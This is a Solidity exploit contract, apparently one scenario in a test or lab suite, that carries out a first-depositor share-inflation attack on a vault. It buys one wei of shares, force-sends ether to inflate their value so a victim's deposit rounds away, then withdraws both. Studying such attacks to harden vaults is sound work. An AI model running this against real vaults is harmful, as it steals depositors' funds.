// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {ForcedEther} from "../../shared/ForcedEther.sol";
import {Exploit, Scene} from "../Exploit.sol";

/// @title One wei of shares, a gift, and a victim that is rounded away
/// @notice Buys the first wei, makes it worth more than the deposit that is about to come, and leaves with both.
contract ShareInflation is Exploit {
    constructor(Scene memory scene) payable Exploit(scene) {}

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        if (number == 0) {
            _deposit(1);
            ForcedEther.send(address(vault), address(this).balance);
        } else _exit(_shares());
    }
}
